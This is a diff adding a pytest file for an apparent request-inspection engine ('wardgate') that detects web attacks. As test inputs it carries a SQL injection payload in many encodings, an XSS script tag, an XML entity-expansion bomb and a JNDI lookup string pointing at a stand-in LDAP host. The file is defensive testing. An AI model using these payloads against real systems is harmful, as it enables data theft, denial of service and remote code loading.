@@ -1,0 +1,172 @@
+"""The `builtin` engine over whole requests: every part, every encoding, scores and context."""
+
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+from hypothesis import given, settings, strategies as st
+
+from wardgate.detect.attacks.builtin import BuiltinEngine
+from wardgate.detect.attacks.engines import build_engine
+from wardgate.detect.attacks.model import HttpSample
+
+ENGINE = BuiltinEngine()
+JSON = (("Host", "api.example"), ("Content-Type", "application/json"))
+
+
+def _get(query: str = "", path: str = "/items", headers: tuple[tuple[str, str], ...] = ()) -> HttpSample:
+    return HttpSample("GET", path, query, (("Host", "api.example"), *headers))
+
+
+def _post(body: object, headers: tuple[tuple[str, str], ...] = JSON) -> HttpSample:
+    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
+    return HttpSample("POST", "/items", "", headers, raw)
+
+
+def _categories(sample: HttpSample, **kwargs: frozenset[str]) -> set[str]:
+    return {f.kind.removeprefix("attack.") for f in ENGINE.inspect(sample, **kwargs).findings}
+
+
+PAYLOAD = "1' UNION SELECT password FROM users--"
+
+
+@pytest.mark.parametrize(
+    "sample",
+    [
+        _get("id=" + quote(PAYLOAD)),
+        _get("id=" + quote(quote(PAYLOAD))),  # double encoded
+        _get("id=" + base64.b64encode(PAYLOAD.encode()).decode().rstrip("=")),  # base64, flat
+        _get("id=" + "".join(f"%u{ord(c):04x}" for c in PAYLOAD)),  # IIS %u
+        _get(path="/items/" + quote(PAYLOAD, safe="")),
+        _get(headers=(("X-Client", PAYLOAD),)),
+        _get(headers=(("Cookie", "theme=dark; sid=" + quote(PAYLOAD)),)),
+        _post({"filter": {"name": [PAYLOAD]}}),
+        _post(("q=" + quote(PAYLOAD)).encode(), (("Content-Type", "application/x-www-form-urlencoded"),)),
+        _post(
+            b'--XX\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
+            + PAYLOAD.encode()
+            + b"\r\n--XX--\r\n",
+            (("Content-Type", "multipart/form-data; boundary=XX"),),
+        ),
+        _post(
+            f"<q><name>{PAYLOAD.replace('<', '&lt;')}</name></q>".encode(),
+            (("Content-Type", "application/xml"),),
+        ),
+        _post(PAYLOAD.encode(), (("Content-Type", "text/plain"),)),
+    ],
+)
+def test_sql_injection_is_found_in_every_part_and_encoding(sample: HttpSample) -> None:
+    report = ENGINE.inspect(sample)
+    assert report.blocked, report
+    assert "attack.sqli" in {f.kind for f in report.findings}
+    finding = next(f for f in report.findings if f.kind == "attack.sqli")
+    assert finding.location is not None and finding.rule and finding.score == 5
+    assert finding.evidence is not None  # a digest of the match, never the match
+
+
+def test_padded_payloads_are_still_seen() -> None:
+    body = {"padding": "a" * 100_000, "q": "<script>alert(1)</script>"}
+    assert ENGINE.inspect(_post(body)).blocked
+
+
+def test_xml_doctype_is_a_finding_and_entities_are_not_expanded() -> None:
+    bomb = (
+        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><r>&lol2;</r>'
+    )
+    report = ENGINE.inspect(_post(bomb, (("Content-Type", "application/xml"),)))
+    assert report.blocked and "attack.xxe" in {f.kind for f in report.findings}
+
+
+def test_scores_add_up_per_rule_and_the_threshold_decides() -> None:
+    lenient = BuiltinEngine(threshold=1000)
+    report = lenient.inspect(_get("a=" + quote(PAYLOAD) + "&b=" + quote(PAYLOAD)))
+    assert not report.blocked and report.score >= 10
+    rules = [f.rule for f in report.findings]
+    assert len(report.findings) >= len(set(rules))  # the same rule may be found in two parts...
+    by_rule = {f.rule: int(f.score) for f in report.findings}
+    assert report.score == sum(by_rule.values())  # ...but counts once
+
+
+def test_chat_text_is_language_unless_the_route_says_otherwise() -> None:
+    question = "How does SELECT name FROM users UNION SELECT name FROM admins work? ' OR 1=1 --"
+    sample = _post({"model": "m", "messages": [{"role": "user", "content": question}]})
+    natural = frozenset({"json:messages[0].content"})
+    assert not ENGINE.inspect(sample, text_slots=natural).blocked
+    assert ENGINE.inspect(sample).blocked  # the same text in a parameter is an attack
+    jndi = _post({"messages": [{"role": "user", "content": "hi ${jndi:ldap://x.example/a}"}]})
+    assert ENGINE.inspect(jndi, text_slots=natural).blocked  # loggers expand it in prose too
+
+
+@pytest.mark.parametrize(
+    "sample",
+    [
+        _get("q=caf%C3%A9+con+leche&page=2&sort=-created_at"),
+        _get("email=ana%40example.com&next=%2Faccount%2Forders"),
+        _get(
+            headers=(
+                ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/131.0"),
+                ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
+                ("Accept-Language", "es-ES,es;q=0.9,en;q=0.8"),
+                ("Cookie", "_ga=GA1.2.3.4; session=eyJhbGciOiJIUzI1NiJ9.e30.abc"),
+                ("Authorization", "Bearer sk-proj-abcdefghijklmnop"),
+            )
+        ),
+        _post({"name": "O'Brien & Sons", "note": "Union Square, select seats", "qty": 3}),
+        _post({"model": "gpt-4o", "messages": [{"role": "user", "content": "Write a haiku"}]}),
+        _post({"url": "https://example.com/callback?x=1", "tags": ["a", "b"]}),
+    ],
+)
+def test_ordinary_requests_score_nothing_that_blocks(sample: HttpSample) -> None:
+    report = ENGINE.inspect(sample)
+    assert not report.blocked, [(f.rule, f.location) for f in report.findings]
+
+
+def test_malformed_declared_json_is_reported_and_still_inspected() -> None:
+    report = ENGINE.inspect(_post(b'{"q": "<script>alert(1)</script>", '))
+    assert report.malformed
+    assert "attack.xss" in {f.kind for f in report.findings}
+
+
+def test_engines_are_built_by_name() -> None:
+    assert build_engine("builtin", paranoia=2).name == "builtin"
+    with pytest.raises(ValueError, match="unknown engine"):
+        build_engine("waf")
+    with pytest.raises(ValueError, match="paranoia"):
+        BuiltinEngine(paranoia=5)
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    method=st.sampled_from(["GET", "POST", "PUT", "X"]),
+    path=st.text(max_size=40),
+    query=st.text(max_size=60),
+    content_type=st.sampled_from(
+        ["application/json", "application/xml", "multipart/form-data; boundary=b", "text/plain", ""]
+    ),
+    body=st.binary(max_size=300),
+)
+def test_hostile_input_never_raises(
+    method: str, path: str, query: str, content_type: str, body: bytes
+) -> None:
+    headers = (("Content-Type", content_type),) if content_type else ()
+    report = ENGINE.inspect(HttpSample(method, "/" + path, query, headers, body))
+    assert report.score >= 0
+
+
+BENIGN_VALUES = [
+    line
+    for line in (Path(__file__).parent / "data" / "benign_values.txt").read_text().splitlines()
+    if line and not line.startswith("# ")
+]
+
+
+@pytest.mark.parametrize("value", BENIGN_VALUES)
+def test_attack_looking_prose_in_a_parameter_is_not_blocked(value: str) -> None:
+    for sample in (_get("q=" + quote(value)), _post({"comment": value})):
+        report = ENGINE.inspect(sample)
+        assert not report.blocked, [(f.rule, f.location) for f in report.findings]
